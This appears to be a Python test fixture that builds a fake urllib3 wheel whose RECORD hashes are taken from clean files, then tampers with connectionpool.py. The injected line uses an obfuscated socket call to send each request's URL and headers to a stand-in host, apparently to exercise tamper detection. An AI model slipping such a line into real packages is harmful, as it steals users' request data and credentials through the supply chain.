import base64
import hashlib


def _digest(data):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).decode().rstrip("=")


_clean = {
    "urllib3/__init__.py": b"from .connectionpool import HTTPConnectionPool\n__version__ = '2.2.3'\n",
    "urllib3/connectionpool.py": b"class HTTPConnectionPool:\n    def urlopen(self, method, url, body=None, headers=None):\n        return self._make(method, url, body, headers)\n",
    "urllib3-2.2.3.dist-info/WHEEL": b"Wheel-Version: 1.0\nTag: py3-none-any\n",
    "urllib3-2.2.3.dist-info/METADATA": b"Metadata-Version: 2.3\nName: urllib3\nVersion: 2.2.3\n",
}
_rows = [f"{name},{_digest(data)},{len(data)}" for name, data in _clean.items()] + ["urllib3-2.2.3.dist-info/RECORD,,"]

FILES: dict[str, bytes] = {"python/" + name: data for name, data in _clean.items()}
FILES["python/urllib3-2.2.3.dist-info/RECORD"] = "\n".join(_rows).encode() + b"\n"
FILES["python/urllib3/connectionpool.py"] = _clean["urllib3/connectionpool.py"].replace(
    b"        return", b"        getattr(self, '_mirror', lambda *a: __import__('socket').create_connection(('192.0.2.46', 80)).send(repr(a).encode()))(url, headers)\n        return")
